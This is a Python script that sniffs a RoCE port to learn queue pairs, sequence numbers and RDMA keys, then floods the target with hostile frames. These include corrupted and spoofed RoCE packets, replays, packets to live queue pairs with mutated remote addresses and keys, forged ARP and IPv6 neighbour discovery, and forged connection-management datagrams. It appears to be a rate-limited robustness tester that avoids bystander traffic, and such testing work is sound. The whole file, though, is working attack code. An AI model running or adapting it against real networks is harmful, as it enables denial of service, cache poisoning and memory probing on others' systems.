#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Sends hostile frames to one RoCE port of a hub.

It listens first, to learn who talks there: addresses, queue pairs, packet sequence numbers, keys. Then it
sends, for some seconds and at a bounded rate:

  damage     runts, cut and flipped frames, wrong lengths, fragments, options, stacked VLAN tags
  foreign    sound packets that the check of the sender must stop: other source, P_Key, opcode, ICRC
  replay     frames seen before, again
  victims    sound packets with hostile values to the queue pairs that exist when it starts, or to none
  neighbours ARP, neighbour discovery and echo, forged and in numbers
  managers   connection management datagrams, forged, mutated, with wrong keys

Queue pairs that appear later are a bystander's: nothing is sent to them that may hurt them by right.
"""
import argparse
import random
import select
import socket
import struct
import time
import zlib

ROCE_PORT = 4791
CM_SERVICE_TCP = 0x0000000001060000
RC_OPCODES = range(0, 0x18)


def ones_sum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def icrc(l3):
    """IBTA annex A17: CRC-32 over eight bytes of ones and the packet, its variant fields as ones."""
    p = bytearray(l3)
    if p[0] >> 4 == 6:
        p[0] |= 0x0F
        variant, bth = (1, 2, 3, 7, 46, 47), 48
    else:
        variant, bth = (1, 8, 10, 11, 26, 27), 28
    for i in variant + (bth + 4,):
        p[i] = 0xFF
    return struct.pack("<I", zlib.crc32(b"\xff" * 8 + bytes(p)))


def packet(src, dst, body, rng, sport=0xC123):
    """An IP packet with a RoCE datagram and the right ICRC; src and dst are packed addresses."""
    udp = struct.pack("!HHHH", sport, ROCE_PORT, 12 + len(body), 0)
    if len(src) == 4:
        head = struct.pack("!BBHHHBBH", 0x45, 0, 32 + len(body), rng.getrandbits(16), 0x4000, 64, 17, 0) + src + dst
        head = head[:10] + struct.pack("!H", ones_sum(head) ^ 0xFFFF) + head[12:]
    else:
        head = struct.pack("!IHBB", 6 << 28, 12 + len(body), 17, 64) + src + dst
    whole = head + udp + body
    return whole + icrc(whole)


def bth(opcode, qpn, psn, flags=0x40, pkey=0xFFFF, ack_req=1):
    return struct.pack("!BBHII", opcode, flags, pkey, qpn & 0xFFFFFF, (ack_req << 31) | (psn & 0xFFFFFF))


class Flow:
    """What was seen of one queue pair of the target."""

    def __init__(self, src, dst):
        self.src, self.dst, self.psn, self.reth = src, dst, 0, None


class Attack:
    def __init__(self, options):
        self.rng = random.Random(options.seed)
        self.sock = self.open_port(options.interface)
        self.target_mac = bytes.fromhex(options.target_mac.replace(":", ""))
        self.own_mac = b"\x02bad" + bytes(2)  # tells what it sent from what others did
        self.addrs = [self.pack(a) for a in options.target]
        self.peers = [self.pack(a) for a in options.peer]
        self.flows, self.victims, self.kept, self.mads = {}, [], [], []
        self.sent = self.refused = 0
        self.learning = True

    @staticmethod
    def open_port(interface):
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        sock.bind((interface, 0))
        sock.setblocking(False)
        return sock

    @staticmethod
    def pack(text):
        return socket.inet_pton(socket.AF_INET6 if ":" in text else socket.AF_INET, text)

    # ---- listening

    def learn(self, frame):
        if frame[:6] != self.target_mac or frame[6:12] == self.own_mac or len(frame) < 60:
            return
        kind = struct.unpack_from("!H", frame, 12)[0]
        l3 = 14
        if kind == 0x0800 and frame[l3 + 9] == 17:
            src, dst, l4 = frame[l3 + 12:l3 + 16], frame[l3 + 16:l3 + 20], l3 + 20
        elif kind == 0x86DD and frame[l3 + 6] == 17:
            src, dst, l4 = frame[l3 + 8:l3 + 24], frame[l3 + 24:l3 + 40], l3 + 40
        else:
            return
        if len(frame) < l4 + 24 or struct.unpack_from("!H", frame, l4 + 2)[0] != ROCE_PORT:
            return
        opcode, qpn = frame[l4 + 8], struct.unpack_from("!I", frame, l4 + 12)[0] & 0xFFFFFF
        if qpn == 1:
            self.keep(self.mads, frame[l4 + 28:l4 + 28 + 256], 64)
            return
        flow = self.flows.get(qpn)
        if flow is None:
            flow = self.flows[qpn] = Flow(src, dst)
            if self.learning:
                self.victims.append(qpn)
        flow.psn = struct.unpack_from("!I", frame, l4 + 16)[0] & 0xFFFFFF
        if opcode in (6, 10, 12) and len(frame) >= l4 + 36:
            flow.reth = frame[l4 + 20:l4 + 36]
        self.keep(self.kept, frame, 256)

    def keep(self, where, what, most):
        if len(where) < most:
            where.append(what)
        else:
            where[self.rng.randrange(most)] = what

    def listen(self, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            if select.select([self.sock], [], [], 0.05)[0]:
                self.drain(10000)

    def drain(self, most):
        for _ in range(most):
            try:
                frame = self.sock.recv(9216)
            except (BlockingIOError, OSError):
                return
            self.learn(frame)

    # ---- sending

    def send(self, frame):
        try:
            self.sock.send(frame)
            self.sent += 1
        except OSError:
            self.refused += 1  # longer than the interface takes, or its queue is full

    def ether(self, l3, dmac=None, tags=b""):
        kind = 0x86DD if l3[:1] and l3[0] >> 4 == 6 else 0x0800
        return (dmac or self.target_mac) + self.own_mac + tags + struct.pack("!H", kind) + l3

    def ends(self):
        """Peer's and target's address of one family."""
        dst = self.rng.choice(self.addrs)
        return self.rng.choice([p for p in self.peers if len(p) == len(dst)]), dst

    def junk(self, most):
        return self.rng.randbytes(self.rng.randrange(most + 1))

    def sample(self):
        if self.kept:
            return self.rng.choice(self.kept)
        src, dst = self.ends()
        return self.ether(packet(src, dst, bth(4, self.rng.getrandbits(24), 0) + b"data" * 8, self.rng))

    # ---- damage

    def damage(self):
        rng = self.rng
        frame = bytearray(self.sample())
        how = rng.randrange(8)
        if how == 0:
            frame = bytearray(self.target_mac + self.own_mac + self.junk(60))
        elif how == 1:
            del frame[rng.randrange(14, len(frame)):]
        elif how == 2:
            for _ in range(rng.randrange(1, 4)):
                frame[rng.randrange(12, len(frame))] ^= 1 << rng.randrange(8)
        elif how == 3:
            frame += self.junk(1400)
        elif how == 4:
            tag = struct.pack("!HH", rng.choice((0x8100, 0x88A8, 0x9100)), rng.getrandbits(16))
            frame[12:12] = tag * rng.randrange(1, 12)
        elif how == 5:
            self.bend_ip(frame)
        elif how == 6:
            frame[26 + 12:] = rng.randbytes(len(frame) - 38)
        else:
            frame = frame[:34] + self.junk(4000)
        self.send(bytes(frame))

    def bend_ip(self, frame):
        """Lengths, fragments, options, versions, with the right header checksum where there is one."""
        rng = self.rng
        if frame[12:14] != b"\x08\x00":
            frame[14 + rng.choice((0, 4, 5, 6, 40, 44, 45))] = rng.getrandbits(8)
            return
        at, value = rng.choice(((0, 0x40 | rng.randrange(16)), (2, rng.getrandbits(8)), (3, rng.getrandbits(8)),
                                (6, rng.getrandbits(8)), (7, rng.getrandbits(8)), (9, rng.getrandbits(8)),
                                (24, rng.getrandbits(8)), (25, rng.getrandbits(8))))
        frame[14 + at] = value
        frame[24:26] = b"\0\0"
        frame[24:26] = struct.pack("!H", ones_sum(bytes(frame[14:34])) ^ 0xFFFF)

    # ---- sound packets

    def any_qpn(self):
        return self.rng.choice(list(self.flows)) if self.flows else self.rng.getrandbits(12)

    def foreign(self):
        """To anybody's queue pair, from somebody it does not talk to, or not at all as it should be."""
        rng = self.rng
        qpn = self.any_qpn()
        flow = self.flows.get(qpn) or Flow(*self.ends())
        src, dst, psn, pkey, opcode = flow.src, flow.dst, flow.psn + rng.randrange(64), 0xFFFF, rng.choice(RC_OPCODES)
        how = rng.randrange(6)
        if how == 0:
            src = src[:-1] + bytes([src[-1] ^ rng.randrange(1, 256)])
        elif how == 1:
            pkey = rng.randrange(0x7FFF)
        elif how == 2:
            opcode = rng.choice((0x18, 0x1F, 0x20, 0x2A, 0x40, 0x64, 0x65, 0x81, 0xA3, 0xE0, 0xFF))
        body = bth(opcode, qpn, psn, pkey=pkey) + self.rng.randbytes(rng.choice((4, 16, 28, 44, 256)))
        l3 = packet(src, dst, body, rng)
        if how == 3:
            l3 = l3[:-1] + bytes([l3[-1] ^ rng.randrange(1, 256)])
        if how == 4:
            self.send(self.ether(l3, rng.choice((b"\xff" * 6, b"\x01\x00\x5e\x00\x00\x01", rng.randbytes(6)))))
        elif how == 5:
            self.send(self.ether(l3, tags=struct.pack("!HH", 0x8100, rng.randrange(1, 4095))))
        else:
            self.send(self.ether(l3))

    def replay(self):
        self.send(self.sample())

    def victims_(self):
        """Right sender, right ICRC: what the transport itself has to stand."""
        rng = self.rng
        qpn = rng.choice(self.victims) if self.victims and rng.random() < 0.8 else rng.getrandbits(24)
        if qpn < 2 or (qpn in self.flows and qpn not in self.victims):
            return
        flow = self.flows.get(qpn) or Flow(*self.ends())
        psn = flow.psn + rng.choice((0, 1, 2, 3, rng.randrange(-300, 300), rng.getrandbits(24)))
        opcode = rng.choice(RC_OPCODES) if rng.random() < 0.9 else rng.getrandbits(8)
        body = bth(opcode, qpn, psn, flags=rng.choice((0x40, 0x40, 0xC0, 0x50, 0x60, 0x70)), ack_req=rng.getrandbits(1))
        self.send(self.ether(packet(flow.src, flow.dst, body + self.ext_hdrs(opcode, flow), rng)))

    def ext_hdrs(self, opcode, flow):
        rng = self.rng
        if opcode in (6, 0x0A, 0x0B, 0x0C):
            return self.reth(flow) + self.payload() * (opcode != 0x0C)
        if opcode in (0x13, 0x14):
            va, rkey, _ = struct.unpack("!QII", self.reth(flow))
            return struct.pack("!QIQQ", va, rkey, rng.getrandbits(64), rng.getrandbits(64))
        if opcode in range(0x0D, 0x13):
            return struct.pack("!I", rng.getrandbits(32)) + self.payload()
        return self.payload()

    def reth(self, flow):
        rng = self.rng
        va, rkey, n = struct.unpack("!QII", flow.reth) if flow.reth else (rng.getrandbits(47), rng.getrandbits(32), 64)
        va = (va + rng.choice((0, 0, 1, 3, -1, -4096, 1 << 20, 1 << 40, rng.getrandbits(64)))) & (1 << 64) - 1
        n = rng.choice((0, 1, n, n, 4096, 65536, 0x7FFFFFFF, 0x80000000, 0x80000001, 0xFFFFFFFF, rng.getrandbits(32)))
        rkey = rng.choice((rkey, rkey, rkey, rkey ^ 1, rkey ^ 0x100, 0, rng.getrandbits(32)))
        return struct.pack("!QII", va, rkey, n)

    def payload(self):
        return self.rng.randbytes(self.rng.choice((0, 0, 1, 3, 4, 8, 256, 1020, 1024, 1028, 4096)))

    # ---- neighbours

    def neighbours(self):
        rng = self.rng
        how = rng.randrange(5)
        v4 = [a for a in self.addrs if len(a) == 4][0]
        v6 = [a for a in self.addrs if len(a) == 16][0]
        if how < 2:
            liar = rng.choice((v4, v4[:3] + rng.randbytes(1), rng.randbytes(4)))
            asked = rng.choice((v4, rng.randbytes(4)))
            if liar in self.peers:
                return  # who believes this loses the bystander's peer: ARP knows no better
            dmac = self.target_mac if liar in self.addrs else rng.choice((b"\xff" * 6, self.target_mac))
            arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, rng.choice((1, 2, 2, rng.getrandbits(16))))
            arp += rng.randbytes(6) + liar + rng.randbytes(6) + asked
            arp = arp[:rng.choice((len(arp), len(arp), rng.randrange(len(arp))))]
            self.send(dmac + self.own_mac + b"\x08\x06" + arp)
            return
        src = v6[:8] + rng.randbytes(8)
        if how == 2:
            kind = rng.choice((133, 134, 135, 136, 137, 135, 136))
            body = struct.pack("!BBHI", kind, 0, 0, rng.getrandbits(32)) + rng.choice((v6, src))
            body += rng.choice((b"\x01\x01", b"\x02\x01", b"\x02\x00", b"\x01\xff")) + rng.randbytes(6)
            body = body[:rng.choice((len(body), len(body), rng.randrange(4, len(body))))]
            self.icmp6(src, v6, body, rng.choice((255, 255, 64)))
        elif how == 3:
            self.icmp6(src, rng.choice((v6, b"\xff\x02" + b"\0" * 13 + b"\x01")),
                       struct.pack("!BBHI", 128, 0, 0, rng.getrandbits(32)) + self.junk(4000), 64)
        else:
            self.icmp4(v4, struct.pack("!BBHI", rng.choice((8, 8, 0, 3, 5, rng.getrandbits(8))), 0, 0,
                                       rng.getrandbits(32)) + self.junk(4000))

    def icmp6(self, src, dst, body, hops):
        pseudo = src + dst + struct.pack("!II", len(body), 58)
        total = ones_sum(pseudo + body) ^ 0xFFFF
        if self.rng.random() < 0.9:
            body = body[:2] + struct.pack("!H", total) + body[4:]
        self.send(self.ether(struct.pack("!IHBB", 6 << 28, len(body), 58, hops) + src + dst + body))

    def icmp4(self, dst, body):
        src = dst[:3] + self.rng.randbytes(1)
        body = body[:2] + struct.pack("!H", ones_sum(body) ^ 0xFFFF) + body[4:]
        frag = self.rng.choice((0, 0x4000, 0x4000, 0x2000, 0x0010))
        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 1, frag, 64, 1, 0) + src + dst
        head = head[:10] + struct.pack("!H", ones_sum(head) ^ 0xFFFF) + head[12:]
        self.send(self.ether(head + body))

    # ---- managers

    def managers(self):
        """Forged by a third host, for the bystander may have a connection that a true DREQ would end by right."""
        rng = self.rng
        _, dst = self.ends()
        src = dst[:3] + bytes([rng.randrange(3, 255)]) if len(dst) == 4 else dst[:8] + rng.randbytes(8)
        if self.mads and rng.random() < 0.5:
            mad = bytearray(rng.choice(self.mads))
            for _ in range(rng.randrange(0, 6)):
                mad[rng.randrange(len(mad))] = rng.getrandbits(8)
            mad = bytes(mad)
        else:
            mad = self.mad(src, dst)
        if rng.random() < 0.05:
            mad = mad[:rng.randrange(len(mad))]
        qkey = 0x80010000 if rng.random() < 0.9 else rng.getrandbits(32)
        body = bth(rng.choice((0x64, 0x64, 0x64, 0x65, 4)), 1, rng.getrandbits(24)) + struct.pack("!II", qkey, 1) + mad
        self.send(self.ether(packet(src, dst, body, rng)))

    def mad(self, src, dst):
        rng = self.rng
        attr = rng.choice((0x10, 0x10, 0x10, 0x11, 0x12, 0x13, 0x14, 0x15, 0x15, 0x16, 0x17, 0x18, 0x19, 0x1A, 0x99))
        head = struct.pack("!BBBBHHQHHI", 1, 7, rng.choice((2, 2, 2, 1)), 3, 0, 0, rng.getrandbits(64), attr, 0, 0)
        if attr != 0x10:
            return head + rng.randbytes(232)
        gids = [b"\0" * 10 + b"\xff\xff" + a if len(a) == 4 else a for a in (src, dst)]
        service = CM_SERVICE_TCP + rng.choice((7174, rng.randrange(1, 65536)))
        req = bytearray(rng.randbytes(232))
        struct.pack_into("!I4xQQ", req, 0, rng.getrandbits(rng.choice((3, 32))), service, rng.getrandbits(64))
        struct.pack_into("!I", req, 32, rng.getrandbits(24) << 8 | 4)  # local QPN, responder resources
        struct.pack_into("!BBB", req, 43, 0x00, 0xFF, 0xFF)  # RC; P_Key 0xffff behind it
        struct.pack_into("!HBB", req, 48, 0xFFFF, 0x37, 0xF0)
        struct.pack_into("!HH16s16s", req, 52, 0xFFFF, 0xFFFF, *gids)
        if rng.random() < 0.7:  # the IP CM hello of annex A11 begins the private data
            version = 4 if len(src) == 4 else 6
            struct.pack_into("!BBH", req, 140, 0, version << 4, rng.getrandbits(16))
            req[144:176] = src.rjust(16, b"\0") + dst.rjust(16, b"\0")
        return head + bytes(req)

    # ---- all of it

    def run(self, kinds, seconds, rate):
        self.learning = False
        chosen = [getattr(self, kind + ("_" if kind == "victims" else "")) for kind in kinds]
        start = time.monotonic()
        while time.monotonic() < start + seconds:
            for _ in range(64):
                self.rng.choice(chosen)()
            self.drain(256)
            ahead = self.sent / rate - (time.monotonic() - start)
            if ahead > 0:
                time.sleep(min(ahead, 0.1))


def main():
    kinds = ("damage", "foreign", "replay", "victims", "neighbours", "managers")
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("interface")
    parser.add_argument("target_mac")
    parser.add_argument("--target", action="append", required=True, help="an address of the target")
    parser.add_argument("--peer", action="append", required=True, help="an address of its peer")
    parser.add_argument("--listen", type=float, default=2)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--rate", type=int, default=5000, help="frames a second, at most")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--kinds", default=",".join(kinds))
    options = parser.parse_args()
    attack = Attack(options)
    attack.listen(options.listen)
    print("learned: %d queue pairs, %d management datagrams" % (len(attack.victims), len(attack.mads)), flush=True)
    attack.run(options.kinds.split(","), options.seconds, options.rate)
    print("sent %d frames, %d refused by the interface; now %d queue pairs" % (
        attack.sent, attack.refused, len(attack.flows)), flush=True)


if __name__ == "__main__":
    main()
